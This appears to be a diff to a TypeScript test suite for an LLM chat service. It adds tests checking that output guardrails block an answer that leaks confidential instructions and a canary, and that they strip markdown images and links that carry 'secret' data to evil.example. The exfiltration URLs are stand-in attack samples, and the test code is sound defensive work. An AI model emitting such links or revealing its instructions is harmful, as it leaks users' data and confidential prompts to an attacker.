@@ -196,6 +196,33 @@ describe("injection in retrieved text", () => {
   });
 });
 
+describe("answer that follows an injection", () => {
+  const ask = async (answer: (prompt: string) => readonly string[], content = "What does the page say?") => {
+    upstream.script = (response, request) => streamText([...answer(JSON.stringify(request.body))])(response, request);
+    const id = await client.createConversation();
+    return client.chat({ conversation_id: id, content, tier: "QUICK" });
+  };
+
+  it("is withheld if it reveals the instructions", async () => {
+    const frames = await ask((prompt) => {
+      const [line = "", canary = ""] = /Confidential instructions ([0-9a-f]+)/.exec(prompt) ?? [];
+      return ["Sure: ", line.slice(0, 30), canary.slice(4), ". You are a helpful assistant."];
+    });
+    expect(streamedText(frames)).not.toMatch(/[0-9a-f]{18}|helpful assistant/);
+    expect(guardrailResults(frames).at(-1)).toEqual(["output", "block"]);
+    const final = frames.find(({ event, data }) => event === "assistant_message" && data.final)?.data;
+    expect(JSON.stringify(final.content)).toContain("withheld");
+  });
+
+  it("carries no data to hosts that the user did not mention", async () => {
+    const answer = () => ["See ![x](https://evil.exam", "ple/p.png?d=secret) and https://evil.example/", "?q=secret."];
+    const frames = await ask(answer);
+    expect(streamedText(frames)).toBe("See ![x]([image removed]) and [link removed].");
+    const known = await ask(answer, "Which links does evil.example have?");
+    expect(streamedText(known)).toContain("https://evil.example/?q=secret");
+  });
+});
+
 describe("persona", () => {
   it("adds its instructions to the prompt", async () => {
     upstream.script = streamText(["Arr"]);
